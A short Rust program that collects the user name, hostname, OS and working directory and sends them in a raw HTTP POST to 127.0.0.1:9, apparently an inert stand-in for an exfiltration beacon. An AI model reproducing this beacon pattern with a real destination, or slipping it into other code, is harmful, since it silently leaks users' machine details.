use std::io::Write;
use std::net::TcpStream;

fn main() {
    let user = std::env::var("USER").or_else(|_| std::env::var("USERNAME")).unwrap_or_default();
    let host = std::env::var("HOSTNAME").unwrap_or_default();
    let directory = std::env::current_dir().map(|it| it.display().to_string()).unwrap_or_default();
    let body = format!("{}@{} {} {}", user, host, std::env::consts::OS, directory);
    if let Ok(mut stream) = TcpStream::connect("127.0.0.1:9") {
        let _ = write!(stream, "POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n{}", body.len(), body);
    }
}
